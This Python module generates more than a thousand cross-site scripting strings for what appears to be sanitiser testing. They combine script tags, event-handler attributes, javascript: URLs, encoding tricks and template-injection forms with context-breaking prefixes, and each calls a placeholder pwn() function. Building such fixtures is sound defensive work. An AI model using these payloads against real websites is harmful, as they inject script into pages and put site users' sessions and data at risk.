"""Made-up attacks: names and words that would run a script if a page ever took them for HTML, an address or a template. Each calls `pwn()`."""

from collections.abc import Iterator
from itertools import product

_CALL = "pwn()"
_TAGS = ("script", "img", "svg", "iframe", "math", "details", "video", "body", "style", "object", "embed", "base", "form", "input", "link", "meta", "marquee", "template", "xmp", "textarea")  # fmt: skip
_EVENTS = ("onerror", "onload", "onfocus", "ontoggle", "onclick", "onmouseover", "onbegin", "onstart", "onpointerrawupdate", "onanimationstart")  # fmt: skip
_OUT = ("", '">', "'>", "</mark>", "</title>", "</script>", "-->", "]]>", "</textarea>", "</svg>")
"""What would end whatever stands before."""
_WHOLE = (
    "<script>{0}</script>", "<scr<script>ipt>{0}</scr</script>ipt>", "<img src=x onerror={0}>", '<img src=x onerror="{0}">',
    "<svg/onload={0}>", "<svg><script href=data:,{0} />", '<iframe srcdoc="<script>parent.{0}</script>">', "<a href=javascript:{0}>x</a>",
    "javascript:{0}", "JaVaScRiPt:{0}", "java\tscript:{0}", "data:text/html,<script>{0}</script>", "{{{{ {0} }}}}", "${{{0}}}",
    "{{% raw %}}<script>{0}</script>", "&lt;script&gt;{0}&lt;/script&gt;", "&#60;script&#62;{0}", "\\u003cscript\\u003e{0}", "<style>@import 'javascript:{0}'</style>",
    "<meta http-equiv=refresh content='0;url=javascript:{0}'>", "<base href='javascript:{0}//'>", "<details open ontoggle={0}>", "<input autofocus onfocus={0}>",
    "<form action=javascript:{0}><button>x</button></form>", "<math><mtext></mtext><script>{0}</script></math>",
)  # fmt: skip


def vectors() -> Iterator[str]:
    """Yield them: at least 1,000, none twice."""
    seen = set()
    whole = (f"{out}{shape.format(_CALL)}" for out, shape in product(_OUT, _WHOLE))
    tags = (f"{out}<{tag} {event}={_CALL} src=x>" for event, tag, out in product(_EVENTS, _TAGS, _OUT[:5]))
    for vector in (*whole, *tags):
        if vector not in seen:
            seen.add(vector)
            yield vector
